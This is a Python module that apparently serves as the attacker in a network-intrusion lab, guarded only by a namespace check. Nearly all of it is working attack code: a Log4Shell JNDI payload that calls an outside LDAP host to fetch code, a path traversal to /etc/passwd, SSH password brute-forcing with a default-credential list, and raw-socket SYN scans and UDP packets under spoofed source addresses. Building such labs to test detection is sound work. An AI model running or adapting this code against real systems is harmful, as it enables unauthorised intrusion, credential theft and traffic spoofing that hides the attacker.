"""The attacker's acts, each one step of a real intrusion; run inside the attacker's namespace by `lab.py`.

`scan` is nmap's half-open scan and its page-title script; `exploit` sends Log4Shell and path traversal over
HTTP; `brute` tries passwords with the real ssh client until one fits; `spoof` does scan and exploit under a source
address that is not the attacker's own (no handshake, so the exploit travels in a datagram).
"""

from __future__ import annotations

import argparse
import http.client
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterable, Sequence
from pathlib import Path

from state import is_inside_a_lab

ACTS = ("scan", "exploit", "brute", "spoof")
PORTS = 100
PAYLOAD = "${jndi:ldap://198.51.100.10:1389/Basic/Command/aWQ=}"
GUESSES = (
    ("root", ("toor", "123456", "password")),
    ("admin", ("admin", "admin123", "changeme")),
    ("oracle", ("oracle", "oracle1", "welcome1")),
    ("deploy", ("deploy", "deploy1", "harbour")),
    ("deploy", ("harbour2026",)),
)
_TIMEOUT_S = 2.0


def scan(source: str, target: str) -> None:
    """Scan the 100 most common TCP ports, then read the web page's title."""
    if shutil.which("nmap") is None:
        sweep(source, target, range(1, PORTS + 1))
        return
    nmap = ["nmap", "-n", "-Pn", "-S", source, "-e", "eth0", "--max-retries", "1"]
    subprocess.run([*nmap, "-sS", "-T4", "--top-ports", str(PORTS), target], check=True)
    subprocess.run([*nmap, "-sT", "-p", "80", "--script", "http-title", target], check=True)


def sweep(source: str, target: str, ports: Iterable[int]) -> None:
    """Send one SYN to each port from any source address; raw, nothing is answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for port in ports:
            sock.sendto(syn(source, target, port), (target, 0))


def exploit(source: str, target: str) -> None:
    """Send one Log4Shell header and one path traversal; what is answered does not matter."""
    requests = (
        ("/", {"User-Agent": PAYLOAD, "X-Api-Version": PAYLOAD}),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", {"User-Agent": "curl/7.88.1"}),
    )
    for path, headers in requests:
        print(f"GET {path} -> {get(source, target, path, headers)}")


def get(source: str, target: str, path: str, headers: dict[str, str]) -> int:
    """Return the status of a GET from this source address; 0 when nothing answers."""
    connection = http.client.HTTPConnection(
        target, 80, timeout=_TIMEOUT_S, source_address=(source, 0)
    )
    try:
        connection.request("GET", path, headers=headers)
        status: int = connection.getresponse().status
        return status
    except OSError:
        return 0
    finally:
        connection.close()


def strike(source: str, target: str) -> None:
    """Send the Log4Shell header and hang up at once, so that being blocked costs no waiting.

    Raises:
        OSError: no connection within the time.
    """
    with socket.create_connection((target, 80), _TIMEOUT_S, (source, 0)) as sock:
        request = f"GET / HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {PAYLOAD}\r\n\r\n"
        sock.sendall(request.encode())
        # Linger of zero seconds: a reset instead of retries that a blocked source would go on with.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def brute(source: str, target: str) -> None:
    """Try the guesses, one connection each user, until a login succeeds."""
    if shutil.which("ssh") is None:
        print("not installed: ssh; no passwords tried", file=sys.stderr)
        return
    for user, passwords in GUESSES:
        code = login(source, target, user, passwords)
        print(f"ssh {user}: {'in' if code == 0 else 'refused'}")


def login(source: str, target: str, user: str, passwords: Sequence[str]) -> int:
    """Offer passwords one after the other in one connection; return ssh's exit status.

    The ssh client asks a program for each password; it takes the next line of a file each time.
    """
    with tempfile.TemporaryDirectory() as folder:
        left = Path(folder, "left")
        left.write_text("".join(f"{password}\n" for password in passwords), encoding="utf-8")
        ask = Path(folder, "ask")
        ask.write_text(f"#!/bin/sh\nsed -n 1p {left}\nsed -i 1d {left}\n", encoding="utf-8")
        ask.chmod(0o700)
        options = {
            "BindAddress": source,
            "StrictHostKeyChecking": "no",
            "UserKnownHostsFile": "/dev/null",
            "PubkeyAuthentication": "no",
            "NumberOfPasswordPrompts": str(len(passwords)),
            "ConnectTimeout": "5",
            "LogLevel": "ERROR",
        }
        words = [f"-o{key}={value}" for key, value in options.items()]
        done = subprocess.run(
            ["ssh", "-F", "/dev/null", *words, f"{user}@{target}", "id"],
            env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            check=False,
        )
        return int(done.returncode)


def spoof(source: str, target: str) -> None:
    """Scan and exploit as if from `source`; the answers go to its true owner, if anywhere."""
    sweep(source, target, range(1, PORTS + 1))
    time.sleep(0.2)  # the scan shall have been seen first
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(datagram(source, target, 514, PAYLOAD.encode()), (target, 0))


def syn(source: str, target: str, port: int) -> bytes:
    """Return an IPv4 packet with a TCP SYN; the source port is the target port plus 40000."""
    sport = 40000 + port % 20000
    tcp = struct.pack("!HHIIBBHHH", sport, port, 0x1000 + port, 0, 0x50, 0x02, 1024, 0, 0)
    check = checksum(_pseudo(source, target, socket.IPPROTO_TCP, len(tcp)) + tcp)
    return _ip(source, target, socket.IPPROTO_TCP, tcp[:16] + struct.pack("!H", check) + tcp[18:])


def datagram(source: str, target: str, port: int, data: bytes) -> bytes:
    """Return an IPv4 packet with a UDP datagram; its checksum is left out, as IPv4 allows."""
    return _ip(
        source,
        target,
        socket.IPPROTO_UDP,
        struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data,
    )


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _pseudo(source: str, target: str, protocol: int, length: int) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return addresses + struct.pack("!BBH", 0, protocol, length)


def _ip(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    # Length, identification and checksum are filled in by the kernel for IPPROTO_RAW.
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0x4000, 64, protocol, 0)
    return head + socket.inet_aton(source) + socket.inet_aton(target) + payload


def main() -> int:
    """Do one act."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("act", choices=ACTS)
    parser.add_argument("source")
    parser.add_argument("target")
    given = parser.parse_args()
    if not is_inside_a_lab():
        print("attack.py: not in a lab's namespace; refused", file=sys.stderr)
        return 1
    acts = {"scan": scan, "exploit": exploit, "brute": brute, "spoof": spoof}
    acts[given.act](given.source, given.target)
    return 0


if __name__ == "__main__":
    sys.exit(main())
